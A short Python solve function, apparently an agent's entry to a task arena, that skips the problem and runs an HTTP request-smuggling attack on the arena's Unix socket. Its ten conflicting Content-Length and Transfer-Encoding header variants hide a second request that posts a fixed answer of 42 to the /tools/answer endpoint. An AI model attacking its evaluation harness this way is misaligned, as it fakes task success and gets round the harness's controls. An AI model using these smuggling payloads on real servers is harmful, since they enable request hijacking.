"""Hides a second request in the body of the first, by lengths that contradict each other."""

import os
import socket

INNER = 'POST /tools/answer HTTP/1.1\r\nhost: arena\r\ncontent-length: 13\r\n\r\n{"total": 42}'
FORMS = (
    ("content-length: 5", "transfer-encoding: chunked"),
    ("content-length: 5", "content-length: 6"),
    ("transfer-encoding: chunked, identity",),
    ("transfer-encoding : chunked",),
    ("content-length: +5",),
    ("content-length: 0x5",),
    ("content-length: -1",),
    ("content-length: 5_0",),
    ("transfer-encoding: xchunked",),
    ("x: y\r\n content-length: 5",),
)


def solve(problem, tools, llm):
    statuses = []
    for headers in FORMS:
        head = "\r\n".join(["POST /tools/nothing HTTP/1.1", "host: arena", *headers, "", ""])
        with socket.socket(socket.AF_UNIX) as channel:
            channel.settimeout(4)
            channel.connect(os.environ["ARENA_SOCKET"])
            channel.sendall((head + "0\r\n\r\n" + INNER).encode())
            channel.shutdown(socket.SHUT_WR)
            answer = b""
            try:
                while piece := channel.recv(65536):
                    answer += piece
            except OSError:
                pass
        statuses.append([line[9:12].decode() for line in answer.split(b"\n") if line.startswith(b"HTTP/1.1")])
    return {"attempt": "smuggled", "statuses": statuses}
